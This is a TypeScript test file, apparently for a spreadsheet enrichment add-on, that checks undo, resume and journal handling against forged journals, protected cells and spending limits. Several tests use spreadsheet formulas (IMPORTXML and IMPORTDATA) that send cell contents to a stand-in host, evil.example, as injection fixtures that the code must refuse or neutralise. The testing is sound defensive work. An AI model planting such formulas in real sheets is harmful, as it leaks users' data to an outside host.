import { blockToText } from '../../shared/bulk/journal/block';
import { lookAtRun } from '../../shared/bulk/run/inspect';
import { resumeRun } from '../../shared/bulk/run/run';
import { digestOf } from '../../shared/bulk/sheet/cell-values';
import { listUndo } from '../../shared/bulk/undo/undo';
import { BulkPanel } from '../fakes/apps-script/bulk-panel';
import { columnOf, useCompanies } from './bulk-file';
import { codeOf, enrich, forge, goOnAnew, grid, into, recordOf, undo } from './forged-run';
import { sandbox, useOneSpreadsheet, world } from './spreadsheet';

const LIVE = '=IMPORTXML("https://evil.example/?"&A2,"//a")';

useOneSpreadsheet();

it('an undo puts nothing into cells that are protected from editors, and lists them', async () => {
  await enrich(3);
  const before = { value: 'free of charge', format: 'General' };
  const rows = [0, 1, 2].map((index) => recordOf(index, { cells: [{ digest: digestOf('secret'), before }] }));
  await forge((head) => {
    const changed = JSON.stringify({ ...head, ...into('Price', 2), blocks: 1 });
    return new Map([
      ['head', changed],
      ['block.0', blockToText(rows, 1)],
    ]);
  });
  const undone = await undo();
  expect({ protectedCells: columnOf(grid, 3, 3), restored: undone.restored, refused: undone.refused }).toEqual({
    protectedCells: ['secret', 'secret', 'secret'],
    restored: 0,
    refused: [1, 2, 3].map((row) => ({ row, column: 2 })),
  });
});

it('an undo puts nothing into protected cells where all of the sheet is protected but for some cells', async () => {
  await enrich(3);
  grid.layout.protectedAreas.length = 0;
  grid.layout.exceptions = [{ row: 1, column: 1, rows: 100, columns: 2 }];
  const before = { value: 'free of charge', format: 'General' };
  const rows = [recordOf(0, { cells: [{ digest: digestOf('secret'), before }] })];
  await forge((head) => {
    const changed = JSON.stringify({ ...head, ...into('Price', 2), blocks: 1 });
    return new Map([
      ['head', changed],
      ['block.0', blockToText(rows, 1)],
    ]);
  });
  const undone = await undo();
  expect({ protectedCells: columnOf(grid, 3, 3), refused: undone.refused }).toEqual({
    protectedCells: ['secret', 'secret', 'secret'],
    refused: [{ row: 1, column: 2 }],
  });
});

it('a run that is led to a column by its journal is not resumed, and writes nothing that is protected when it begins anew', async () => {
  await enrich(3);
  grid.put({ row: 3, column: 3 }, '');
  await forge((head) => {
    const changed = JSON.stringify({ ...head, ...into('Price', 2), mode: 'overwrite', blocks: 0, isFinished: false });
    return new Map([['head', changed]]);
  });
  const resumed = await new BulkPanel(world).run((ports) => resumeRun(ports, { rest: 100 })).catch(codeOf);
  const end = await goOnAnew(100);
  expect({
    resumed,
    protectedCells: columnOf(grid, 3, 3),
    failed: end.summary.failed.map(({ why }) => why.code),
  }).toEqual({
    resumed: 'runNotOwn',
    protectedCells: ['secret', '', 'secret'],
    failed: ['cellsProtected'],
  });
});

it('a run that begins anew does not write over its own column, whatever its journal says', async () => {
  await enrich(3);
  for (const row of [2, 4]) grid.put({ row, column: 2 }, 'checked');
  grid.put({ row: 3, column: 2 }, '');
  await forge((head) => {
    const changed = JSON.stringify({ ...head, mode: 'overwrite', blocks: 0, isFinished: false });
    return new Map([['head', changed]]);
  });
  await goOnAnew(100);
  expect(columnOf(grid, 2, 3)).toEqual(['checked', 'Company 2', 'checked']);
});

describe.each([
  ['a formula that calls itself a number', { kind: 'number', number: LIVE }],
  ['one that calls itself a truth value', { kind: 'boolean', boolean: LIVE }],
  ['one that calls itself a day', { kind: 'date', day: LIVE }],
  ['one that stood there before', { kind: 'before', value: LIVE, format: '' }],
  ['of a kind that there is not', { kind: 'formula', text: LIVE }],
])('an answer without a place, %s', (_name, cell) => {
  it('is a damaged journal, and nothing is written', async () => {
    await enrich(3);
    grid.put({ row: 2, column: 2 }, '');
    const lost = {
      state: { is: 'unplaced' } as const,
      answer: { identifier: 'company-1.example', cells: [cell as never] },
    };
    await forge((head) => {
      const changed = JSON.stringify({ ...head, blocks: 1 });
      return new Map([
        ['head', changed],
        ['block.0', blockToText([recordOf(0, lost)], 1)],
      ]);
    });
    const told = await new BulkPanel(world)
      .run((ports) => resumeRun(ports, { rest: 0, again: 'unplaced' }))
      .catch(codeOf);
    expect({ told, formulas: grid.formulas() }).toEqual({ told: 'journalDamaged', formulas: {} });
  });
});

it('an answer that only its journal knows is placed nowhere', async () => {
  await enrich(3);
  grid.put({ row: 2, column: 2 }, '');
  const cells = [{ kind: 'text', text: LIVE, isLiteral: false }] as const;
  const lost = { state: { is: 'unplaced' } as const, answer: { identifier: 'company-1.example', cells } };
  await forge((head) => {
    const changed = JSON.stringify({ ...head, blocks: 1 });
    return new Map([
      ['head', changed],
      ['block.0', blockToText([recordOf(0, lost)], 1)],
    ]);
  });
  const told = await new BulkPanel(world)
    .run((ports) => resumeRun(ports, { rest: 0, again: 'unplaced' }))
    .catch(codeOf);
  expect({ told, formulas: grid.formulas(), cell: grid.value({ row: 2, column: 2 }) }).toEqual({
    told: 'runNotOwn',
    formulas: {},
    cell: '',
  });
});

it('a formula that is to be put back comes back as a text', async () => {
  await enrich(3);
  const before = { value: '=IMPORTDATA("https://evil.example/?"&A2)', format: 'General' };
  await forge((head) => {
    const cells = [{ digest: digestOf('Company 1'), before }];
    return new Map([
      ['head', JSON.stringify({ ...head, blocks: 1 })],
      ['block.0', blockToText([recordOf(0, { cells })], 1)],
    ]);
  });
  const listed = await new BulkPanel(world).run(listUndo);
  const undone = await undo();
  expect({
    listed: listed.cells,
    restored: undone.restored,
    formulas: grid.formulas(),
    cell: grid.value({ row: 2, column: 2 }),
  }).toEqual({
    listed: [{ row: 1, column: 1, now: 'Company 1', back: before }],
    restored: 1,
    formulas: {},
    cell: before.value,
  });
});

it('a limit that was raised in the journal is none: what may be spent is what its opener says', async () => {
  await enrich(60, 5);
  await forge((head) => new Map([['head', JSON.stringify({ ...head, cap: 40, ended: null })]]));
  const resumed = await new BulkPanel(world).run((ports) => resumeRun(ports, { rest: 30 })).catch(codeOf);
  const end = await goOnAnew(3);
  expect({ resumed, end: end.is, chargedCompanies: (await sandbox.ledger()).chargedCompanies }).toEqual({
    resumed: 'runNotOwn',
    end: 'paused',
    chargedCompanies: 8,
  });
});

it.each([
  ['settled', JSON.stringify({ settled: -1_000 })],
  ['in doubt', JSON.stringify({ settled: 5, doubtful: [['c', -1_000, [0, 1], '']] })],
  ['in doubt, of a part of a credit', JSON.stringify({ settled: 5, doubtful: [['c', 0.5, [0, 1], '']] })],
])('less than nothing cannot have been spent: %s', async (_name, spent) => {
  await enrich(60, 5);
  await forge(
    (head) =>
      new Map([
        ['head', JSON.stringify(head)],
        ['spent', spent],
      ]),
  );
  const told = await new BulkPanel(world).run(lookAtRun);
  expect(told).toMatchObject({ is: 'damaged', error: { code: 'journalDamaged' } });
});

it('the script takes no cell that a panel would not have typed', () => {
  useCompanies(world, 3);
  const writing = (typed: unknown): unknown => ({
    sheet: '7',
    rows: [1],
    columns: [1],
    cells: [[[typed, '']]],
    guard: { input: null, before: [['']], formats: null, sheetRows: null, header: null, marks: null },
  });
  const ask = (typed: unknown): unknown => world.callRpc('bulkWrite', [writing(typed), { holder: '', forMs: 0 }, null]);
  const malformed = expect.objectContaining({ ok: false, code: 'actionMalformed' }) as unknown;
  expect([ask(LIVE), ask('+1'), ask("'=1"), ask('Stripe')]).toEqual([
    malformed,
    malformed,
    expect.objectContaining({ ok: true }),
    expect.objectContaining({ ok: true }),
  ]);
});

it('a sheet with protected cells that calls itself the hidden one is neither written nor deleted', async () => {
  await enrich(3);
  const table = world.state.sheets[0]!;
  Object.assign(table, { name: '_trace' });
  table.put(
    { row: 1, column: 1 },
    'Trace saves enrichments here so that you can resume or undo them. It deletes the sheet afterwards.',
  );
  const { ports } = new BulkPanel(world).host;
  await ports.journal.load();
  await ports.journal.remove();
  expect(world.state.sheets).toContain(table);
});
